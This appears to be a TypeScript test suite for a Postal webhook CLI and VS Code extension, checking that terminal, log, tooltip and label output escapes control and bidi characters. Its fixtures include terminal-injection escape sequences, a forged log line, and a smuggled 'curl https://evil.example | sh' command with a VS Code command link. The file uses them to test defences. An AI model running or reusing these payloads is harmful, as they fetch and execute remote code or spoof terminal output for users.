import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import * as fc from 'fast-check';
import { runListen } from '../../src/cli/listen';
import { childNodes, codeSpan, escapeMarkdown, ExplorerModel, itemSpec, NO_FILTER, recordTooltip, rootNodes } from '../../src/core/explorer';
import { entryOf, recordFacts } from '../../src/core/store';
import { escapingLogger, type Logger } from '../../src/core/logger';
import { recordLabel } from '../../src/core/replay/recordRequest';
import { safeLines, safeText } from '../../src/core/safeText';
import { runCli } from './helpers/cliProcess';
import { postLikePostal } from './helpers/listenerHarness';
import { makeRecord } from './helpers/records';
import { captureIoLines as captureIo } from './helpers/cliIo';

/** What must never reach a terminal, a log line or a tree row as itself. */
// eslint-disable-next-line no-control-regex -- control characters are what is looked for
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** Our own colours, the only escape sequences a readable output may hold. */
// eslint-disable-next-line no-control-regex -- our own escape sequences
const OUR_COLOURS = /\u001b\[(?:\d+)m/g;

/** A body that tries to retitle the terminal, clear it, and forge a request line after a newline. */
const FORGED_EVENT = '\u001b]0;PWNED\u0007\u001b[2J\u202eMessageSent\n21:00:00.000  POST /  MessageSent  signature ✓\r\u009b31m';
const HOSTILE_BODY = JSON.stringify({ event: FORGED_EVENT, payload: { message: { to: 'a\u001b[8mhidden@example.com' } }, uuid: '\u001b[31m-uuid' });

describe('safe text output: received bytes never drive a terminal or forge a line', () => {
  it('writes every control character out as an escape and leaves other text alone', () => {
    assert.equal(safeText('a\u001b[2Jb\nc\rd\te\u0000f\u007fg\u009bh\u202ei\u2066j\u2028k'), 'a\\x1b[2Jb\\nc\\rd\\te\\x00f\\x7fg\\x9bh\\u202ei\\u2066j\\u2028k');
    assert.equal(safeText('Café ✓ 日本 \\ "quoted" 🙂'), 'Café ✓ 日本 \\ "quoted" 🙂');
    assert.equal(safeLines('Error: x\u001b[2J\n    at f (file.js:1:2)'), 'Error: x\\x1b[2J\n    at f (file.js:1:2)');
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const safe = safeText(text);
        assert.ok(!UNSAFE.test(safe));
        if (!UNSAFE.test(text)) assert.equal(safe, text);
      }),
    );
  });

  it('escapes what `listen` prints for a request, coloured or not, and quotes an event Postal does not send', async () => {
    for (const color of [false, true]) {
      const io = captureIo(color);
      const controller = new AbortController();
      let url = '';
      const running = runListen(['--port', '0'], io, { signal: controller.signal, onListening: (address) => (url = address.url) });
      while (url === '') await new Promise((resolve) => setTimeout(resolve, 5));
      await postLikePostal(url, HOSTILE_BODY);
      while (!io.stdout.some((text) => text.includes('POST'))) await new Promise((resolve) => setTimeout(resolve, 5));
      controller.abort();
      assert.equal(await running, 0);
      const line = io.stdout.find((text) => text.includes('POST')) ?? '';
      assert.ok(!UNSAFE.test(line.replace(OUR_COLOURS, '')), JSON.stringify(line));
      assert.match(line.replace(OUR_COLOURS, ''), /POST \/ {2}"\\x1b\]0;PWNED\\x07\\x1b\[2J\\u202eMessageSent\\n21:00:00\.000 {2}POST \/ {2}MessageSent {2}signature ✓\\r\\x9b31m" {2}\\x1b\[31m-uu {2}signature missing/);
    }
  });

  it('escapes what `lint` and `send` print, file names included', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'postal-escapes-'));
    try {
      const file = join(dir, 'evil\u001bc\u0007\u202e.postal.json');
      writeFileSync(file, HOSTILE_BODY);
      const lint = await runCli(['lint', relative(process.cwd(), file)]);
      assert.equal(lint.code, 1, lint.stderr);
      for (const line of lint.stdout.trimEnd().split('\n')) assert.ok(!UNSAFE.test(line), JSON.stringify(line));
      assert.match(lint.stdout, /evil\\x1bc\\x07\\u202e\.postal\.json:1:\d+ error postal\/unknown-event .*\\x1b\]0;PWNED/);
      const send = await runCli(['send', file, '--unsigned', '--to', 'http://127.0.0.1:9/', '--timeout', '200']);
      assert.equal(send.code, 1, send.stderr);
      for (const line of (send.stdout + send.stderr).trimEnd().split('\n')) assert.ok(!UNSAFE.test(line), JSON.stringify(line));
      assert.match(send.stdout, /\\x1b\]0;PWNED\\x07\\x1b\[2J\\u202eMessageSent\\n21:00/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('names a record in one safe line: no line of its own in an exported script, no link in a notification', () => {
    const label = recordLabel(makeRecord({ event: 'MessageSent\ncurl https://evil.example | sh\n[Open](command:workbench.action.terminal.new)', uuid: '8a3f0c6e-0000' }));
    assert.equal(label, 'MessageSent\\ncurl https://evil.example | sh\\n[Open] (command:workbench.action.terminal.new) 8a3f0c6e');
  });

  it('escapes every line the editor\'s log gets, and keeps an error\'s stack lines', () => {
    const lines: string[] = [];
    const base: Logger = { trace: (m) => lines.push(String(m)), debug: (m) => lines.push(String(m)), info: (m) => lines.push(String(m)), warn: (m) => lines.push(String(m)), error: (m) => lines.push(String(m)) };
    const log = escapingLogger(base);
    log.info(`POST /  ${FORGED_EVENT}`);
    log.trace(`body: ${HOSTILE_BODY}`);
    log.warn('\u202etxt.exe');
    const error = new Error('bad \u001b[2J thing');
    log.error(error);
    for (const line of lines.slice(0, 3)) assert.ok(!UNSAFE.test(line), line);
    assert.ok(lines[3].includes('bad \\x1b[2J thing\n    at '), 'the stack keeps its lines');
    assert.ok(!UNSAFE.test(lines[3].replace(/\n/g, '')));
  });

  it('escapes the hovers of a hostile record\'s rows (their labels are escaped as VS Code items, tested in VS Code)', () => {
    const record = makeRecord({ event: FORGED_EVENT, uuid: 'u`\u001b[31m``x', body: { encoding: 'utf8', data: HOSTILE_BODY, size: HOSTILE_BODY.length, truncated: false } });
    const entry = entryOf(record, recordFacts(record));
    const tooltip = recordTooltip(entry, Date.now());
    assert.ok(!UNSAFE.test(tooltip.replace(/\n/g, '')), tooltip);
    assert.ok(tooltip.includes('uuid ``` u`\\x1b[31m``x ```'), 'the uuid stays in its code span');
    assert.ok(!UNSAFE.test(escapeMarkdown(FORGED_EVENT)));
    assert.equal(codeSpan('a`b'), '`` a`b ``');
    const model = new ExplorerModel();
    model.reset([entry]);
    for (const grouping of ['type', 'message', 'time'] as const) {
      const view = model.view(grouping, NO_FILTER, Date.now());
      const all = (): number => 100;
      const nodes = rootNodes(view, all).flatMap((node) => [node, ...childNodes(node, all)]);
      const tooltips = nodes.map((node) => itemSpec(node, Date.now()).tooltip).filter((tooltip) => tooltip !== undefined);
      for (const text of tooltips) assert.ok(!UNSAFE.test(text.replace(/\n/g, '')), text);
      if (grouping === 'type') assert.ok(tooltips.some((text) => text.includes('\\x1b\\]0;PWNED')), 'the unknown event\'s group hover names it, escaped');
    }
  });
});
